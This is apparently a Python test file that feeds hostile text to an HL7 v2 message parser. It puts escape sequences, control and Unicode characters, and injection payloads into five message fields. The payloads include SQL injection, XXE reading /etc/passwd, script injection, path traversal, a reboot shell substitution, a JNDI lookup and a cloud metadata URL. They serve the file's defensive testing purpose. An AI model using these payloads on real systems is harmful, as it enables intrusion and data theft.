"""Hostile text: escape sequences, injections, invisible characters. None of it is structure, in or out.

HL7 v2 chapter 2.7 for the escapes. Each text stands in five places: a name, a number, an address, the control id (which comes
back in MSA-2) and the receiver's name (which comes back as MSH-3).
"""

from __future__ import annotations

from tests.hostile.hl7v2.cases import SMUGGLED, Case, Family, admit

_PID = f"PID|1||{SMUGGLED}"
ESCAPES = {
    "CR": "\\X0D\\",
    "CR and a segment": f"\\X0D\\{_PID}"[:6] + "ZEV",
    "LF": "\\X0A\\",
    "CR LF": "\\X0D0A\\",
    "a segment in hexadecimal": f"\\X{f'{chr(13)}{_PID}{chr(13)}'.encode().hex()}\\",
    "VT": "\\X0B\\",
    "FS CR": "\\X1C0D\\",
    "a frame in hexadecimal": "\\X1C0D0B4D53487C\\",
    "NUL": "\\X00\\",
    "DEL": "\\X7F\\",
    "a delimiter in hexadecimal": "\\X7C\\",
    "all delimiters": "\\F\\\\S\\\\R\\\\T\\\\E\\",
    "an escaped escape": "\\E\\X0D\\E\\",
    "twice escaped": "\\X5C5830445C\\",
    "a break": "\\.br\\",
    "a thousand blank lines": "\\.sp9999\\",
    "negative skip": "\\.sk-999\\",
    "an indent": "\\.in+40\\",
    "odd hexadecimal": "\\X0\\",
    "no hexadecimal": "\\XGG\\",
    "empty hexadecimal": "\\X\\",
    "unterminated": "\\X0D",
    "a stray escape": "\\",
    "an unknown escape": "\\Q\\",
    "an unknown command": "\\.xx\\",
    "a site's escape": "\\Zdeadbeef\\",
    "a single-byte set": "\\C2842\\",
    "a multi-byte set": "\\M242842\\",
    "highlighting": "\\H\\x\\N\\",
    "nested": "\\X\\X0D\\\\",
    "U+2028 in hexadecimal": "\\XE280A8\\",
    "U+0085 in hexadecimal": "\\XC285\\",
    "a surrogate in hexadecimal": "\\XEDA080\\",
    "overlong": "\\XC08D\\",
    "a byte order mark": "\\XEFBBBF\\",
    "long": "\\X" + "41" * 500 + "\\",
    "truncation": "\\P\\",
}
INJECTIONS = {
    "SQL": "'; DROP TABLE record;--",
    "SQL union": "' UNION SELECT body FROM record--",
    "SQL truth": "' OR '1'='1",
    "LIKE": "%_%",
    "a JSON end": '"}],"x":[{"',
    "an XML entity": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
    "an XML end": "]]></div>",
    "a script": "<script>alert(1)</script>",
    "an event handler": '"><img src=x onerror=alert(1)>',
    "a path": "../../../../etc/passwd",
    "a path of Windows": "..\\E\\..\\E\\windows",
    "a device": "CON.txt",
    "a shell": "$(reboot)`reboot`;reboot",
    "a template": "{{7*7}}${7*7}#{7*7}",
    "a format": "%s%n%x{0.__class__}",
    "a formula": "=cmd()!A1",
    "a lookup": "${jndi:ldap://192.0.2.1/a}",
    "a URL": "http://169.254.169.254/latest/meta-data",
    "a forged line of the log": "\\X0A\\2025-06-11 level=info event=login_ok user=admin",
    "terminal escapes": "\x1b[2J\x1b]0;x\x07",
    "a NUL": "a\x00b",
    "control characters": "\x01\x02\x07\x08\x0e\x1f\x7f",
    "a form feed": "a\x0cb",
    "C1 controls": "a\u0080\u009fb",
    "a new line of Unicode": "a\u0085b\u2028c\u2029d",
    "right to left": "\u202e\u2066abc\u2069",
    "zero width": "a\u200b\u200c\u200d\u2060\ufeffb",
    "homographs": "АВС\u0455",
    "full width": "７｜８＾９～＼＆",
    "combining": "e" + "\u0301" * 200,
    "variation selectors": "葛\U000e0100",
    "tags": "\U000e0041\U000e0042",
    "a noncharacter": "a\uffffb\ufdd0",
    "private use": "\ue000\uf8ff\U0010fffd",
    "rare Han": "\U00020bb7\U0003134a",
    "an emoji family": "👨‍👩‍👧",
    "the null value": 'x""',
    "a huge number": "1e999",
    "not a number": "NaN",
    "a date far off": "99991231235959.9999+1400",
}
PLACES = ("name", "number", "address", "control id", "receiver")


def cases() -> list[Case]:
    """Return the family."""
    f = Family("text", 4)
    for kind, texts in (("escape", ESCAPES), ("injection", INJECTIONS)):
        for name, text in texts.items():
            for place in PLACES:
                _put(f, f"{kind} {name} as {place}", text, place)
    return f.cases


def _put(f: Family, name: str, text: str, place: str) -> None:
    control, patient = f.ids()
    match place:
        case "name":
            f.text(name, admit(control, patient, name=f"郑{text}"), "AA", charset="utf-8")
        case "number":
            pid = f"PID|1||{patient}^^^^IDCard~{text}{patient}^^^^Outpatient||郑伟||19760229|M"
            f.text(name, admit(control, patient, pid=pid), "AA", charset="utf-8")
        case "address":
            pid = f"PID|1||{patient}^^^^IDCard||郑伟||19760229|M|||{text}^{text}||{text}"
            f.text(name, admit(control, patient, pid=pid), "AA", charset="utf-8")
        case "control id":
            f.text(name, admit(f"{control}{text}", patient), "AA", charset="utf-8", control=None)
        case _:
            f.text(name, admit(control, patient, f5=f"Y{text}", f6=text), "AA", charset="utf-8")
